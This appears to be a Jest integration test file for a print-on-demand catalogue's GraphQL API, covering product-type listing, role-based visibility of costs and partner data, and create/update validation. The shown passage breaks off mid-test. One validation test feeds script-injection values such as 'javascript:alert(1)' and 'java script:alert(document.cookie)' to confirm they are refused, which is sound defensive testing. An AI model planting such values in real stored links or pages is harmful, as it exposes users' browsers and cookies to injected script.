import { eq, sql } from 'drizzle-orm';
import {
  PRODUCT_TYPE_LIMITS,
  PRODUCT_TYPE_MESSAGES as M,
  MONEY_MAX,
  SERVER_MESSAGES,
  USER_ROLES,
  productTypeAddressError,
  validateVariants,
  type UserRole,
} from '@podoffice/domain';
import {
  carriers,
  partnerFulfillments,
  productTypeCarriers,
  productTypePartnerVariants,
  productTypePrintAreas,
  productTypes,
  productTypeVariants,
  users,
} from '../src/db/schema';
import { ARG_MESSAGES } from '../src/graphql/args';
import { DEMO_PRODUCT_TYPES, GRID_PRODUCT_TYPE_SKU } from '../src/seed/productTypes';
import { demoEmail, startTestApi, type TestApi } from './harness';

const FIELDS = `id title sku state personalized is_special tag dpl origin images file_type_supported
  categories { id title } attributes { name slug options { name sku } }
  print_files { id title default } suppliers { id first_name last_name }
  product_type_carriers { carrier_id price default carrier { code } } totalVariant`;
const LIST = `query L($filter: ProductTypeFilter) { productTypes(filter: $filter) { count hits { ${FIELDS} } } }`;
const VARIANT_FIELDS = `id sku attributes { name slug option } supplier_costs { user_id cost selected }
  carrier_costs { carrier_id cost default } retail_cost sale_cost base_cost original_cost
  other_base_cost fee_ship is_active sorting print_area_ids partner_default_id
  partner_variants { id partner_variant_id partner_fulfillment_id sku }
  mapping_partner_print_areas { partner_id partner_key product_type_print_area_id } productTypeId`;
const BY_ID = `query B($id: ID!) { productTypeById(id: $id) { ${FIELDS} variants { ${VARIANT_FIELDS} } } }`;
const BY_IDS = `query B($ids: [ID!]!) { productTypeByIds(ids: $ids) { id sku } }`;
const CREATE = `mutation C($input: ProductTypeInput!) { createProductType(input: $input) { ${FIELDS} } }`;
const UPDATE = `mutation U($id: ID!, $input: ProductTypeInput!) { updateProductType(id: $id, input: $input) { ${FIELDS} } }`;
const DUPLICATE = `mutation D($id: ID!) { duplicateProductType(id: $id) { ${FIELDS} } }`;
const DELETE = `mutation D($id: ID!) { deleteProductType(id: $id) }`;
const STATE = `mutation S($id: ID!, $state: String!) { updateProductTypeState(id: $id, state: $state) { id state } }`;
const SAVE_GRID = `mutation G($input: ProductTypeVariantsInput!) { createProductTypeVariant(input: $input) { ${VARIANT_FIELDS} } }`;
const DELETE_PARTNERS = `mutation P($ids: [ID!]!) { deletePartnerVariants(ids: $ids) }`;
const EXPORT = `mutation E($ids: [ID!]!) { exportCatalog(ids: $ids) }`;

interface Type {
  id: string;
  title: string;
  sku: string;
  state: string;
  personalized: boolean;
  tag: string | null;
  categories: { id: string; title: string }[];
  attributes: { name: string; slug: string; options: { name: string; sku: string | null }[] }[];
  print_files: { id: string; title: string; default: boolean }[];
  suppliers: { id: string; first_name: string }[];
  product_type_carriers: {
    carrier_id: string;
    price: number;
    default: boolean;
    carrier: { code: string };
  }[];
  totalVariant: number;
}
interface Variant {
  id: string;
  sku: string;
  attributes: { name: string; slug: string; option: string }[];
  supplier_costs: { user_id: string; cost: number; selected: boolean }[];
  carrier_costs: { carrier_id: string; cost: number; default: boolean }[];
  retail_cost: number;
  sale_cost: number;
  base_cost: number;
  fee_ship: number;
  is_active: boolean;
  sorting: number;
  print_area_ids: string[];
  partner_variants: { id: string; partner_variant_id: string }[];
  [key: string]: unknown;
}
type TypeWithVariants = Type & { variants: Variant[] };

const MANAGERS: UserRole[] = ['Administrator', 'Listing'];
const NOT_MANAGERS = USER_ROLES.filter((r) => !MANAGERS.includes(r));
const FULL_LIST: UserRole[] = ['Administrator', 'Listing', 'Supporter'];

let api: TestApi;
beforeAll(async () => {
  api = await startTestApi();
});
afterAll(() => api?.close());

const token = (role: UserRole) => api.tokenFor(demoEmail(role));
const list = async (filter: Record<string, unknown> = {}, role: UserRole = 'Administrator') =>
  (
    await api.ok<{ productTypes: { count: number; hits: Type[] } }>(
      LIST,
      { filter },
      await token(role),
    )
  ).productTypes;
const byId = async (id: string, role: UserRole = 'Administrator') =>
  (await api.ok<{ productTypeById: TypeWithVariants }>(BY_ID, { id }, await token(role)))
    .productTypeById;
const idOfSku = async (sku: string) => {
  const [row] = await api.server.db
    .select({ id: productTypes.id })
    .from(productTypes)
    .where(eq(productTypes.sku, sku));
  return String(row!.id);
};
const carrierIds = async () => {
  const { carriers } = await api.ok<{ carriers: { hits: { id: string; code: string }[] } }>(
    '{ carriers(filter: { status: true }) { hits { id code } } }',
    {},
    await token('Administrator'),
  );
  return Object.fromEntries(carriers.hits.map((c) => [c.code, c.id]));
};

/** The DTF partner's (supplier 193's) partner fulfillment. */
const dtfPartnerId = async () => {
  const [row] = await api.server.db
    .select({ id: partnerFulfillments.id })
    .from(partnerFulfillments)
    .where(eq(partnerFulfillments.userId, await api.idOf('dtf@colorecommerce.test')));
  return String(row!.id);
};

let skuSerial = 0;
const nextSku = () => `T${++skuSerial}`;
async function formInput(overrides: Record<string, unknown> = {}) {
  const carriers = await carrierIds();
  return {
    title: 'Test Tee',
    sku: nextSku(),
    attributes: [
      { name: 'Color', options: [{ name: 'Red' }, { name: 'Blue' }] },
      { name: 'Size', slug: 'size', options: [{ name: 'S' }, { name: 'M' }] },
    ],
    print_files: [{ title: 'Front' }, { title: 'Back', default: true }],
    suppliers: [String(await api.idOf('supplier@podoffice.test'))],
    product_type_carriers: [
      { carrier_id: carriers.usps, price: 0 },
      { carrier_id: carriers.ups, price: 4.5, default: true },
    ],
    categories: [],
    tag: 'New',
    ...overrides,
  };
}
const create = async (overrides: Record<string, unknown> = {}, role: UserRole = 'Listing') =>
  (
    await api.ok<{ createProductType: Type }>(
      CREATE,
      { input: await formInput(overrides) },
      await token(role),
    )
  ).createProductType;
const tables = () =>
  api.snapshot(
    productTypes,
    productTypePrintAreas,
    productTypeCarriers,
    productTypeVariants,
    productTypePartnerVariants,
  );

/** The grid as the variants screen sends it back: every stored row with its values. */
const gridOf = (variants: Variant[]) =>
  variants.map((v) => ({
    id: v.id,
    sku: v.sku,
    attributes: v.attributes,
    supplier_costs: v.supplier_costs,
    carrier_costs: v.carrier_costs,
    retail_cost: v.retail_cost,
    sale_cost: v.sale_cost,
    base_cost: v.base_cost,
    fee_ship: v.fee_ship,
    is_active: v.is_active,
    sorting: v.sorting,
    print_area_ids: v.print_area_ids,
  }));

/** A grid row of a type made by create() (Color and Size), priced within the rules. */
const gridRow = (color: string, size: string, sku = `V-${color}-${size}`) => ({
  sku,
  attributes: [
    { name: 'Color', slug: 'color', option: color },
    { name: 'Size', slug: 'size', option: size },
  ],
  base_cost: 5,
  retail_cost: 20,
  sale_cost: 18,
});

describe('productTypes list', () => {
  const activeDemo = DEMO_PRODUCT_TYPES.filter((t) => t.state !== 'paused');

  test.each(FULL_LIST)('%s reads the full list: active by default, newest first', async (role) => {
    const page = await list({ limit: 1000 }, role);
    const skus = page.hits.map((t) => t.sku);
    expect(skus).toEqual(expect.arrayContaining(activeDemo.map((t) => t.sku)));
    expect(skus).not.toContain('BLK');
    expect(page.hits.every((t) => t.state === 'active')).toBe(true);
    const ids = page.hits.map((t) => Number(t.id));
    expect(ids).toEqual([...ids].sort((a, b) => b - a));
    const paused = await list({ status: 'paused' }, role);
    expect(paused.hits.map((t) => t.sku)).toContain('BLK');
  });

  test('nested fields: categories, suppliers, carriers with the default, print areas, variant count', async () => {
    const page = await list({ search: 'classic t-shirt' });
    expect(page.count).toBe(1);
    const tee = page.hits[0]!;
    expect(tee).toMatchObject({ sku: 'CTS', tag: 'Best seller', totalVariant: 30 });
    expect(tee.categories.map((c) => c.title)).toEqual(['T-Shirts']);
    expect(tee.suppliers.map((s) => s.first_name)).toEqual(['Priya', 'Hana']);
    expect(tee.product_type_carriers.map((c) => [c.carrier.code, c.price, c.default])).toEqual([
      ['usps', 0, true],
      ['ups', 4.5, false],
    ]);
    expect(tee.print_files.map((p) => [p.title, p.default])).toEqual([
      ['Front', true],
      ['Back', false],
    ]);
  });

  test('filters: search by sku, categories, supplier, personalized; 50 a page by default', async () => {
    expect((await list({ search: 'MUG' })).hits.map((t) => t.sku)).toEqual(['MUG']);
    const tees = await list({
      categories: [(await list({ search: 'CTS' })).hits[0]!.categories[0]!.id],
    });
    expect(tees.hits.map((t) => t.sku).sort()).toEqual(['AOP', 'CTS', 'DTF']);
    const kofi = String(await api.idOf('kofi.mensah@podoffice.test'));
    expect((await list({ supplier_id: kofi })).hits.map((t) => t.sku).sort()).toEqual([
      'CSW',
      'PHC',
      'TOTE',
    ]);
    expect((await list({ personalized: true })).hits.map((t) => t.sku)).toEqual(['PNN']);
    expect((await list({ personalized: false })).hits.map((t) => t.sku)).not.toContain('PNN');
    const all = await list();
    expect(all.hits.length).toBeLessThanOrEqual(PRODUCT_TYPE_LIMITS.pageSize);
  });

  test('a Supplier gets active, non-personalized types of their own, 10 a page, whatever they ask', async () => {
    const mine = await list(
      {
        supplier_id: String(await api.idOf('kofi.mensah@podoffice.test')),
        status: 'paused',
        personalized: true,
      },
      'Supplier',
    );
    expect(mine.hits.map((t) => t.sku).sort()).toEqual(['AOP', 'CAP', 'CTS', 'PHD']);
    expect(mine.count).toBe(4);
    expect(await api.refused(LIST, { filter: { limit: 11 } }, await token('Supplier'))).toBe(
      ARG_MESSAGES.limit(PRODUCT_TYPE_LIMITS.supplierPageSize),
    );
    const one = await list({ limit: 1, offset: 1 }, 'Supplier');
    expect(one.hits).toHaveLength(1);
    expect(one.count).toBe(4);
  });

  test('a Seller reads active types (catalog and pickers), never paused ones', async () => {
    const page = await list({ status: 'paused', limit: 1000 }, 'Seller');
    expect(page.hits.map((t) => t.sku)).toEqual(expect.arrayContaining(['CTS', 'PNN']));
    expect(page.hits.map((t) => t.sku)).not.toContain('BLK');
  });

  test('Accounting and anonymous callers are refused', async () => {
    expect(await api.refused(LIST, {}, await token('Accounting'))).toBe(SERVER_MESSAGES.forbidden);
    expect(await api.refused(LIST, {})).toBe(SERVER_MESSAGES.notSignedIn);
  });

  test('bounds: limit 1 to 9,999, offset 0 or more, a known status, a short search', async () => {
    const admin = await token('Administrator');
    expect(await api.refused(LIST, { filter: { limit: 0 } }, admin)).toBe(ARG_MESSAGES.limit(9999));
    expect(await api.refused(LIST, { filter: { limit: 10000 } }, admin)).toBe(
      ARG_MESSAGES.limit(9999),
    );
    expect(await api.refused(LIST, { filter: { offset: -1 } }, admin)).toBe(ARG_MESSAGES.offset);
    expect(await api.refused(LIST, { filter: { status: 'deleted' } }, admin)).toBe(M.stateInvalid);
    expect(await api.refused(LIST, { filter: { search: 'x'.repeat(101) } }, admin)).toBe(
      ARG_MESSAGES.search(100),
    );
    // Variants come with one type (or productTypeByIds' 50), never with a page (a page of 9,999
    // with theirs is refused sooner, by the list cost estimate: issue 23 §3).
    expect(
      await api.refused(
        '{ productTypes(filter: { limit: 50 }) { hits { id variants { id } } } }',
        {},
        admin,
      ),
    ).toBe(M.variantsOfOneType);
  });
});

describe('productTypeById and productTypeByIds', () => {
  test('a type with its variants in the grid order', async () => {
    const mug = await byId(await idOfSku('MUG'));
    expect(mug.variants).toHaveLength(4);
    expect(mug.variants.map((v) => v.sorting)).toEqual([0, 1, 2, 3]);
    expect(mug.variants[0]).toMatchObject({ sku: 'MUG-11OZ-WHITE', is_active: true });
    expect(mug.variants[0]!.supplier_costs.filter((c) => c.selected)).toHaveLength(1);
    expect(mug.variants[0]!.carrier_costs.filter((c) => c.default)).toHaveLength(1);
  });

  // Issue 23's rules (variant sku characters, one default carrier, no inactive carrier, stored
  // addresses) hold for the demo data, so an editor can save every seeded type as it is.
  test('every seeded type meets the catalogue rules its form and grid apply', async () => {
    const SEEDED = `query S($id: ID!) { productTypeById(id: $id) { id mockup link_template images
      attributes { name slug options { name sku } } suppliers { id } print_files { mockup }
      product_type_carriers { carrier_id price default carrier { status } }
      variants { ${VARIANT_FIELDS} } } }`;
    type Seeded = Omit<TypeWithVariants, 'product_type_carriers'> & {
      mockup: string | null;
      link_template: string | null;
      images: string[];
      print_files: { mockup: string | null }[];
      product_type_carriers: {
        carrier_id: string;
        price: number;
        default: boolean;
        carrier: { status: boolean };
      }[];
    };
    const admin = await token('Administrator');
    for (const demo of DEMO_PRODUCT_TYPES) {
      const id = await idOfSku(demo.sku);
      const type = (await api.ok<{ productTypeById: Seeded }>(SEEDED, { id }, admin))
        .productTypeById;
      expect([demo.sku, productTypeAddressError(type)]).toEqual([demo.sku, null]);
      const carriersOf = type.product_type_carriers;
      expect(carriersOf.every((c) => c.carrier.status)).toBe(true);
      expect(carriersOf.filter((c) => c.default).length).toBeLessThanOrEqual(1);
      const checked = validateVariants(gridOf(type.variants), type);
      expect([demo.sku, checked.ok ? null : checked.firstError]).toEqual([demo.sku, null]);
    }
  });

  test("a Supplier reads their own types; another's, a paused or a personalized one reads as missing", async () => {
    const supplier = await token('Supplier');
    expect((await byId(await idOfSku('CTS'), 'Supplier')).sku).toBe('CTS');
    for (const sku of ['MUG', 'PNN']) {
      expect(await api.refused(BY_ID, { id: await idOfSku(sku) }, supplier)).toBe(M.notFound);
    }
    expect(await api.refused(BY_ID, { id: await idOfSku('BLK') }, await token('Seller'))).toBe(
      M.notFound,
    );
    expect(await api.refused(BY_ID, { id: 'nope' }, supplier)).toBe(M.notFound);
    expect(await api.refused(BY_ID, { id: await idOfSku('CTS') }, await token('Accounting'))).toBe(
      SERVER_MESSAGES.forbidden,
    );
  });

  test("supplier costs are the staff's: a Supplier reads their own, a Seller none", async () => {
    const id = await idOfSku('CTS');
    const priya = String(await api.idOf('supplier@podoffice.test'));
    expect((await byId(id, 'Supporter')).variants[0]!.supplier_costs).toHaveLength(2);
    expect((await byId(id, 'Supplier')).variants[0]!.supplier_costs.map((c) => c.user_id)).toEqual([
      priya,
    ]);
    expect((await byId(id, 'Seller')).variants[0]!.supplier_costs).toEqual([]);
  });

  test('productTypeByIds keeps the order asked, leaves out what the caller may not read, takes at most 50', async () => {
    const ids = [await idOfSku('MUG'), await idOfSku('CTS'), await idOfSku('BLK')];
    const admin = await api.ok<{ productTypeByIds: { sku: string }[] }>(
      BY_IDS,
      { ids },
      await token('Listing'),
    );
    expect(admin.productTypeByIds.map((t) => t.sku)).toEqual(['MUG', 'CTS', 'BLK']);
    const seller = await api.ok<{ productTypeByIds: { sku: string }[] }>(
      BY_IDS,
      { ids },
      await token('Seller'),
    );
    expect(seller.productTypeByIds.map((t) => t.sku)).toEqual(['MUG', 'CTS']);
    const many = Array.from({ length: 51 }, (_, i) => String(i + 1));
    expect(await api.refused(BY_IDS, { ids: many }, await token('Listing'))).toBe(M.tooManyIds(50));
    expect(await api.refused(BY_IDS, { ids: ['MUG'] }, await token('Listing'))).toBe(M.notFound);
    const unknown = await api.ok<{ productTypeByIds: { sku: string }[] }>(
      BY_IDS,
      { ids: ['999999', ids[0]] },
      await token('Listing'),
    );
    expect(unknown.productTypeByIds.map((t) => t.sku)).toEqual(['MUG']);
  });
});

describe('what each role reads of a variant (spec 2 §6)', () => {
  const COSTS_AND_PARTNERS = `query V($id: ID!) { productTypeById(id: $id) { variants {
    retail_cost sale_cost base_cost original_cost other_base_cost partner_default_id
    partner_variants { partner_variant_id partner_fulfillment_id }
    mapping_partner_print_areas { partner_id partner_key } } } }`;
  interface Read {
    productTypeById: {
      variants: {
        retail_cost: number | null;
        sale_cost: number | null;
        base_cost: number | null;
        original_cost: number | null;
        other_base_cost: number | null;
        partner_default_id: string | null;
        partner_variants: { partner_variant_id: string; partner_fulfillment_id: string }[];
        mapping_partner_print_areas: { partner_id: string; partner_key: string }[];
      }[];
    };
  }
  const partnerOf = async (email: string) => {
    const [row] = await api.server.db
      .select({ id: partnerFulfillments.id })
      .from(partnerFulfillments)
      .where(eq(partnerFulfillments.userId, await api.idOf(email)));
    return String(row!.id);
  };
  let typeId: string;
  let express: string;
  let dtf: string;
  beforeAll(async () => {
    express = await partnerOf('supplier@podoffice.test');
    dtf = await partnerOf('dtf@colorecommerce.test');
    const type = await create({
      suppliers: [
        String(await api.idOf('supplier@podoffice.test')),
        String(await api.idOf('dtf@colorecommerce.test')),
      ],
    });
    typeId = type.id;
    await api.ok(
      SAVE_GRID,
      {
        input: {
          productTypeId: typeId,
          variants: [
            {
              sku: 'VIS-1',
              attributes: [
                { name: 'Color', slug: 'color', option: 'Red' },
                { name: 'Size', slug: 'size', option: 'S' },
              ],
              base_cost: 5,
              retail_cost: 20,
              sale_cost: 18,
              original_cost: 3.25,
              other_base_cost: 0.75,
              partner_default_id: express,
              partner_variants: [
                { partner_variant_id: 'G5000-RED-S-FR', partner_fulfillment_id: dtf },
                { partner_variant_id: 'X-RED-S', partner_fulfillment_id: express },
              ],
              mapping_partner_print_areas: [
                {
                  partner_id: dtf,
                  partner_key: 'front',
                  product_type_print_area_id: type.print_files[0]!.id,
                },
                {
                  partner_id: express,
                  partner_key: 'back',
                  product_type_print_area_id: type.print_files[1]!.id,
                },
              ],
            },
          ],
        },
      },
      await token('Listing'),
    );
  });
  const read = async (t: string) =>
    (await api.ok<Read>(COSTS_AND_PARTNERS, { id: typeId }, t)).productTypeById.variants[0]!;
  const SELLER_PRICES = { retail_cost: 20, sale_cost: 18, base_cost: 5 };
  const NO_SELLER_PRICES = { retail_cost: null, sale_cost: null, base_cost: null };

  test.each(FULL_LIST)('%s reads the internal costs and every partner', async (role) => {
    const v = await read(await token(role));
    expect(v).toMatchObject({
      ...SELLER_PRICES,
      original_cost: 3.25,
      other_base_cost: 0.75,
      partner_default_id: express,
    });
    expect(v.partner_variants.map((p) => p.partner_fulfillment_id).sort()).toEqual(
      [dtf, express].sort(),
    );
    expect(v.mapping_partner_print_areas.map((m) => m.partner_id).sort()).toEqual(
      [dtf, express].sort(),
    );
  });

  test("a Supplier reads no seller price, no internal cost and only their own partner's data", async () => {
    const own = await read(await token('Supplier'));
    // Issue 23 §12: a supplier reads what it is paid (its supplier cost), not the seller's prices.
    expect(own).toEqual({
      ...NO_SELLER_PRICES,
      original_cost: null,
      other_base_cost: null,
      partner_default_id: express,
      partner_variants: [{ partner_variant_id: 'X-RED-S', partner_fulfillment_id: express }],
      mapping_partner_print_areas: [{ partner_id: express, partner_key: 'back' }],
    });
    // The DTF partner supplier: its own mapping; the default partner is another's, so none.
    const partner = await read(await api.tokenFor('dtf@colorecommerce.test'));
    expect(partner).toEqual({
      ...NO_SELLER_PRICES,
      original_cost: null,
      other_base_cost: null,
      partner_default_id: null,
      partner_variants: [{ partner_variant_id: 'G5000-RED-S-FR', partner_fulfillment_id: dtf }],
      mapping_partner_print_areas: [{ partner_id: dtf, partner_key: 'front' }],
    });
  });

  test('a Seller reads its prices but neither internal costs nor partner data; Accounting and anonymous are refused', async () => {
    expect(await read(await token('Seller'))).toEqual({
      ...SELLER_PRICES,
      original_cost: null,
      other_base_cost: null,
      partner_default_id: null,
      partner_variants: [],
      mapping_partner_print_areas: [],
    });
    expect(await api.refused(COSTS_AND_PARTNERS, { id: typeId }, await token('Accounting'))).toBe(
      SERVER_MESSAGES.forbidden,
    );
    expect(await api.refused(COSTS_AND_PARTNERS, { id: typeId })).toBe(SERVER_MESSAGES.notSignedIn);
  });
});

describe('createProductType and updateProductType', () => {
  test.each(MANAGERS)(
    '%s creates a type: sku cleaned, one default print area and carrier',
    async (role) => {
      const n = ++skuSerial;
      const type = await create({ sku: ` t${n}x ` }, role);
      expect(type.sku).toBe(`T${n}X`);
      expect(type).toMatchObject({ state: 'active', tag: 'New', totalVariant: 0 });
      expect(type.attributes[0]).toMatchObject({ name: 'Color', slug: 'color' });
      expect(type.print_files.filter((p) => p.default).map((p) => p.title)).toEqual(['Back']);
      expect(
        type.product_type_carriers.filter((c) => c.default).map((c) => c.carrier.code),
      ).toEqual(['ups']);
    },
  );

  test('a sku generated from the title when empty', async () => {
    expect((await create({ title: 'Zig Zag Quilt Blanket', sku: '' })).sku).toBe('ZZQB');
  });

  test.each(NOT_MANAGERS)(
    '%s may not create, update, duplicate, delete or change the state',
    async (role) => {
      const t = await token(role);
      const id = await idOfSku('CAP');
      const before = await tables();
      for (const [query, variables] of [
        [CREATE, { input: await formInput() }],
        [UPDATE, { id, input: await formInput() }],
        [DUPLICATE, { id }],
        [DELETE, { id }],
        [STATE, { id, state: 'paused' }],
        [SAVE_GRID, { input: { productTypeId: id, variants: [] } }],
        [DELETE_PARTNERS, { ids: ['1'] }],
      ] as const) {
        expect(await api.refused(query, variables, t)).toBe(SERVER_MESSAGES.forbidden);
      }
      expect(await tables()).toEqual(before);
    },
  );

  test("'SKU is duplicated' when another type holds the sku, on create and update", async () => {
    const before = await tables();
    expect(
      await api.refused(CREATE, { input: await formInput({ sku: 'mug' }) }, await token('Listing')),
    ).toBe(M.skuDuplicated);
    expect(await tables()).toEqual(before);
    const type = await create();
    expect(
      await api.refused(
        UPDATE,
        { id: type.id, input: await formInput({ sku: 'CTS' }) },
        await token('Listing'),
      ),
    ).toBe(M.skuDuplicated);
  });

  test('an inactive (deleted) carrier is refused by name and nothing is stored', async () => {
    const [gone] = await api.server.db
      .insert(carriers)
      .values({
        name: 'Gone Post',
        code: 'GONE23',
        url: 'https://gone.example/{tracking_number}',
        status: false,
      })
      .returning({ id: carriers.id });
    const before = await tables();
    const input = await formInput({
      product_type_carriers: [{ carrier_id: String(gone!.id), price: 1, default: true }],
    });
    expect(await api.refused(CREATE, { input }, await token('Listing'))).toBe(
      M.carrierInactive('Gone Post'),
    );
    expect(await tables()).toEqual(before);
  });

  test('bad input gets the §5 message and stores nothing', async () => {
    const listing = await token('Listing');
    const admin = await api.idOf('admin@podoffice.test');
    const cases: [Record<string, unknown>, string][] = [
      [{ title: '  ' }, M.titleRequired],
      [{ sku: 'TOOLONG8' }, M.skuLength],
      [{ sku: 'A-B' }, M.skuInvalid],
      [{ print_files: [] }, M.printAreasRequired],
      [{ attributes: [] }, M.attributesRequired],
      [{ attributes: [{ name: 'Color', options: [{ name: ' ' }] }] }, M.attributesRequired],
      [
        {
          attributes: [
            { name: 'Color', options: [{ name: 'a' }] },
            { name: 'color', options: [{ name: 'b' }] },
          ],
        },
        M.attributeDuplicated,
      ],
      [{ product_type_carriers: [{ carrier_id: '1', price: -1 }] }, M.carrierPriceIncorrect],
      [{ product_type_carriers: [{ carrier_id: '99999', price: 1 }] }, M.carrierInvalid],
      [{ product_type_carriers: [{ carrier_id: '1', price: 1e12 }] }, M.carrierPriceIncorrect],
      // Issue 23 §11: spec 2 §4's one default carrier, refused rather than chosen for the caller.
      [
        {
          product_type_carriers: [
            { carrier_id: '1', price: 1, default: true },
            { carrier_id: '2', price: 2, default: true },
          ],
        },
        M.carrierDefaultTwice,
      ],
      [{ suppliers: [String(admin)] }, M.supplierInvalid],
      [{ categories: ['99999'] }, M.categoryInvalid],
      [{ tag: 'Cheap' }, M.tagInvalid],
      // Issue 23 §10: stored addresses are http(s), as carriers' url are.
      [{ link_template: 'javascript:alert(1)' }, M.addressInvalid('Link Template')],
      [{ mockup: 'java script:alert(document.cookie)' }, M.addressInvalid('Mockup Link')],
      [
        { images: ['https://cdn.example.com/a.png', 'data:text/html,<b>x</b>'] },
        M.addressInvalid('Image 2'),
      ],
      [
        { print_files: [{ title: 'Front', mockup: 'vbscript:msgbox(1)', default: true }] },
        M.addressInvalid('Mockup of Front'),
      ],
      // The bounds of PRODUCT_TYPE_LIMITS: nothing stores megabytes in one row.
      [
        { images: Array(PRODUCT_TYPE_LIMITS.imagesMax + 1).fill('https://x.test/a.png') },
        M.tooMany('images', PRODUCT_TYPE_LIMITS.imagesMax),
      ],
      [
        {
          print_files: Array.from({ length: PRODUCT_TYPE_LIMITS.printAreasMax + 1 }, (_, i) => ({
            title: `A${i}`,
          })),
        },
        M.tooMany('print areas', PRODUCT_TYPE_LIMITS.printAreasMax),
      ],
      [
        {
          attributes: [
            {
              name: 'Size',
              options: Array.from({ length: PRODUCT_TYPE_LIMITS.optionsMax + 1 }, (_, i) => ({
                name: `S${i}`,
              })),
            },
          ],
        },
        M.tooMany('options of Size', PRODUCT_TYPE_LIMITS.optionsMax),
      ],
      [
        { title: 'T'.repeat(PRODUCT_TYPE_LIMITS.shortTextMax + 1) },
        M.tooLong('Title', PRODUCT_TYPE_LIMITS.shortTextMax),
      ],
      [
        { description: 'x'.repeat(PRODUCT_TYPE_LIMITS.descriptionMax + 1) },
        M.tooLong('Description', PRODUCT_TYPE_LIMITS.descriptionMax),
      ],
      [
        { images: ['https://x.test/' + 'a'.repeat(PRODUCT_TYPE_LIMITS.urlMax)] },
        M.tooLong('Image', PRODUCT_TYPE_LIMITS.urlMax),
      ],
    ];
    const before = await tables();
    for (const [overrides, message] of cases) {
      expect([
        overrides,
        await api.refused(CREATE, { input: await formInput(overrides) }, listing),
      ]).toEqual([overrides, message]);
    }
    expect(await tables()).toEqual(before);
  });

  test('update replaces the form: print areas keep their ids, links replaced; a foreign print area is refused', async () => {
    const type = await create();
    const [front, back] = type.print_files;
    const input = await formInput({
      title: 'Renamed Tee',
      sku: type.sku,
      print_files: [{ id: back!.id, title: 'Back', default: true }, { title: 'Pocket' }],
      product_type_carriers: [],
      suppliers: [],
      tag: null,
    });
    const updated = (
      await api.ok<{ updateProductType: Type }>(
        UPDATE,
        { id: type.id, input },
        await token('Administrator'),
      )
    ).updateProductType;
    expect(updated).toMatchObject({
      title: 'Renamed Tee',
      tag: null,
      suppliers: [],
      product_type_carriers: [],
    });
    expect(updated.print_files.map((p) => p.title)).toEqual(['Back', 'Pocket']);
    expect(updated.print_files[0]!.id).toBe(back!.id);
    expect(updated.print_files.map((p) => p.id)).not.toContain(front!.id);
    const foreign = (await byId(await idOfSku('MUG'))).print_files[0]!.id;
    expect(
      await api.refused(
        UPDATE,
        { id: type.id, input: { ...input, print_files: [{ id: foreign, title: 'Wrap' }] } },
        await token('Listing'),
      ),
    ).toBe(M.printAreaInvalid);
    expect(await api.refused(UPDATE, { id: '99999', input }, await token('Listing'))).toBe(
      M.notFound,
    );
  });
});

describe('updateProductType keeps the variants consistent (spec 2 §4)', () => {
  const partnerOf = async (email: string) => {
    const [row] = await api.server.db
      .select({ id: partnerFulfillments.id })
      .from(partnerFulfillments)
      .where(eq(partnerFulfillments.userId, await api.idOf(email)));
    return String(row!.id);
  };
  const row = (color: string, size: string) => gridRow(color, size, `R-${color}-${size}`);

  test('suppliers, carriers, print areas and options removed; an attribute added; a merge refused', async () => {
    const carriers = await carrierIds();
    const [priya, hana, dtfUser] = await Promise.all(
      ['supplier@podoffice.test', 'hana.sato@podoffice.test', 'dtf@colorecommerce.test'].map(
        async (email) => String(await api.idOf(email)),
      ),
    );
    const [dtf, express] = [
      await partnerOf('dtf@colorecommerce.test'),
      await partnerOf('supplier@podoffice.test'),
    ];
    const type = await create({ suppliers: [priya, hana, dtfUser] });
    const [front, back] = type.print_files;
    const listing = await token('Listing');
    const grid = ['Red', 'Blue'].flatMap((color) =>
      ['S', 'M'].map((size) => ({
        ...row(color, size),
        supplier_costs: [
          { user_id: priya, cost: 2, selected: false },
          { user_id: hana, cost: 3, selected: true },
          { user_id: dtfUser, cost: 4, selected: false },
        ],
        carrier_costs: [
          { carrier_id: carriers.usps, cost: 1, default: false },
          { carrier_id: carriers.ups, cost: 5, default: true },
        ],
        print_area_ids: [front!.id, back!.id],
        partner_default_id: dtf,
        partner_variants: [
          { partner_variant_id: `G5000-${color}-${size}-FR`, partner_fulfillment_id: dtf },
          { partner_variant_id: `X-${color}-${size}`, partner_fulfillment_id: express },
        ],
        mapping_partner_print_areas: [
          { partner_id: dtf, partner_key: 'front', product_type_print_area_id: front!.id },
          { partner_id: express, partner_key: 'back', product_type_print_area_id: back!.id },
        ],
      })),
    );
    await api.ok(SAVE_GRID, { input: { productTypeId: type.id, variants: grid } }, listing);
    const update = async (overrides: Record<string, unknown>) =>
      api.gql<{ updateProductType: Type }>(
        UPDATE,
        { id: type.id, input: await formInput({ sku: type.sku, ...overrides }) },
        listing,
      );

    const saved = await update({
      attributes: [
        { name: 'Color', options: [{ name: 'Red' }] },
        { name: 'Size', slug: 'size', options: [{ name: 'S' }, { name: 'M' }] },
      ],
      print_files: [{ id: back!.id, title: 'Back', default: true }],
      suppliers: [priya],
      product_type_carriers: [
        { carrier_id: carriers.usps, price: 0 },
        { carrier_id: carriers.dhl, price: 9, default: true },
      ],
    });
    expect(saved.errors).toBeUndefined();
    const after = (await byId(type.id)).variants;
    expect(after.map((v) => [v.sku, v.is_active])).toEqual([
      ['R-Red-S', true],
      ['R-Red-M', true],
      // Blue is no longer offered: kept with its prices and option, switched off for review.
      ['R-Blue-S', false],
      ['R-Blue-M', false],
    ]);
    expect(after[2]!.attributes.map((a) => a.option)).toEqual(['Blue', 'S']);
    expect(after[2]!.retail_cost).toBe(20);
    for (const v of after) {
      // The selected supplier (Hana) went: the first remaining one is selected.
      expect(v.supplier_costs).toEqual([{ user_id: priya, cost: 2, selected: true }]);
      // The default carrier (UPS) went: the first remaining one is default; DHL at the type's price.
      expect(v.carrier_costs).toEqual([
        { carrier_id: carriers.usps, cost: 1, default: true },
        { carrier_id: carriers.dhl, cost: 9, default: false },
      ]);
      expect(v.print_area_ids).toEqual([back!.id]);
      // The DTF partner's supplier left the type: its default, mappings and partner variants go.
      expect(v.partner_default_id).toBeNull();
      expect(v.mapping_partner_print_areas).toEqual([
        { partner_id: express, partner_key: 'back', product_type_print_area_id: back!.id },
      ]);
      expect(v.partner_variants.map((p) => p.partner_variant_id)).toEqual([
        `X-${v.attributes[0]!.option}-${v.attributes[1]!.option}`,
      ]);
    }
    // The grid saves back what it reads.
    await api.ok(
      SAVE_GRID,
      { input: { productTypeId: type.id, variants: gridOf(after) } },
      listing,
    );

    // Size removed while Red/S and Red/M exist: which to lose is the editor's, so nothing changes.
    const before = await tables();
    const variantsBefore = (await byId(type.id)).variants;
    const merged = await update({
      attributes: [{ name: 'Color', options: [{ name: 'Red' }, { name: 'Blue' }] }],
